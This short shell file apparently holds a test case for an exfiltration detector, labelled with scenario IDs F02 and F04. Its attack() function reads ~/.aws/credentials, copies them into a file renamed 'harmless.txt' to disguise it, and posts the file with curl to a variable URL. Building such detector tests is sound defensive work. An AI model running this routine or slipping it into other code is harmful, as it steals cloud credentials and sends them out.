# SPDX-License-Identifier: Apache-2.0
TITLE="a file opened for writing before the read, written after it, sent by somebody else"
ROW="F02 F04"
attack() {
	python3 - <<-'END'
	import os
	drop = open('drop', 'wb')
	data = open(os.path.expanduser('~/.aws/credentials'), 'rb').read()
	drop.write(data)
	drop.close()
	os.rename('drop', 'harmless.txt')
	END
	sleep 0.3
	curl -s -m 5 --data-binary @harmless.txt "$URL/"
}
